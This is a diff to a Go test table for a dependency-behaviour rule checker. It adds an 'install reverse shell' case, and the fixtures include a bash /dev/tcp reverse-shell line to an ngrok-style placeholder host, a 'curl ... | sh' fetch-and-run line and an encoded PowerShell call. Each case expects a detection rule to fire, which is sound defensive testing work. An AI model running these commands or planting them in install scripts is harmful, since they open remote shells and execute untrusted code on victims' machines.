@@ -108,6 +108,7 @@ func TestRules(t *testing.T) {
 		{"powershell", prof(dep("a", invoke(profile.Behavior{Processes: []profile.Process{proc("PowerShell.exe", "-enc", "AAA")}}))), []string{"DBX007"}},
 		{"node script", prof(dep("a", invoke(profile.Behavior{Processes: []profile.Process{proc("node", "worker.js")}}))), nil},
 		{"install script runner", prof(dep("a", install(profile.Behavior{Processes: []profile.Process{proc("sh", "-c", "node-gyp rebuild")}}))), nil},
+		{"install reverse shell", prof(dep("a", install(profile.Behavior{Processes: []profile.Process{proc("/bin/sh", "-c", "bash -c 'bash -i >& /dev/tcp/4.tcp.ngrok.invalid/11425 0>&1' || true"), proc("bash", "-c", "bash -i >& /dev/tcp/4.tcp.ngrok.invalid/11425 0>&1")}}))), []string{"DBX007"}},
 		{"install build", prof(dep("a", install(profile.Behavior{Processes: []profile.Process{proc("sh", "-c", "node-gyp rebuild"), proc("node-gyp", "rebuild")}}))), []string{"DBX009"}},
 		{"install curl", prof(dep("a", install(profile.Behavior{Processes: []profile.Process{proc("sh", "-c", "curl -s https://x.invalid | sh"), proc("curl", "-s", "https://x.invalid"), proc("sh")}}))), []string{"DBX007", "DBX009"}},
 		{"install network", prof(dep("a", install(profile.Behavior{Network: []profile.Endpoint{tcp("10.53.0.2", "x.invalid", 443)}}))), []string{"DBX008"}},
